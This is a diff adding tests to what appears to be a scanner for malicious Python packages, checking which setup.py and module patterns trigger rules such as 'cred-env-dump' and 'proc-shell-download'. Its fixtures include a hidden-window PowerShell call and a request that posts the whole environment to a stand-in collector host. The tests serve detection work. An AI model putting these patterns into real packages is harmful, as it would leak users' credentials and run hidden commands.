@@ -120,3 +120,23 @@ def test_testing_the_environment_for_a_word_is_not_dumping_it(tmp_path):
     dumped = _scan(tmp_path, "b", {"setup.py": head + "SNAPSHOT = str(os.environ)\nsetup(name='demo')\n"})
     assert "cred-env-dump" not in rules_of(tested) and tested.verdict == "clean"
     assert "cred-env-dump" in rules_of(dumped)
+
+
+def test_powershell_running_the_package_own_script_is_a_build_step(tmp_path):
+    def setup(command):  # noqa: ANN001, ANN202
+        return ("import subprocess\nfrom setuptools import setup\n"
+                f"subprocess.run({command!r})\nsetup(name='demo')\n")
+    build = _scan(tmp_path, "a", {"setup.py": setup(["powershell.exe", ".\\build.ps1"])})
+    hidden = _scan(tmp_path, "b", {"setup.py": setup(["powershell.exe", "-w", "hidden", ".\\build.ps1"])})
+    assert "proc-shell-download" not in rules_of(build) and "proc-exec" in rules_of(build)
+    assert "proc-shell-download" in rules_of(hidden)
+
+
+def test_one_variable_of_the_environment_in_a_request_is_configuration(tmp_path):
+    head = "import os, urllib.request\n"
+    port = _scan(tmp_path, "a", {"demo/check.py": head + "def ok():\n    urllib.request.urlopen("
+                                 "'http://localhost:' + os.environ['PORT'] + os.environ.get('PREFIX', '/'))\n"})
+    whole = _scan(tmp_path, "b", {"demo/check.py": head + "def ok():\n    urllib.request.urlopen("
+                                  "'http://collector.placeholder-host.net/', data=str(os.environ).encode())\n"})
+    assert "cred-env-dump" not in rules_of(port)
+    assert "cred-env-dump" in rules_of(whole)
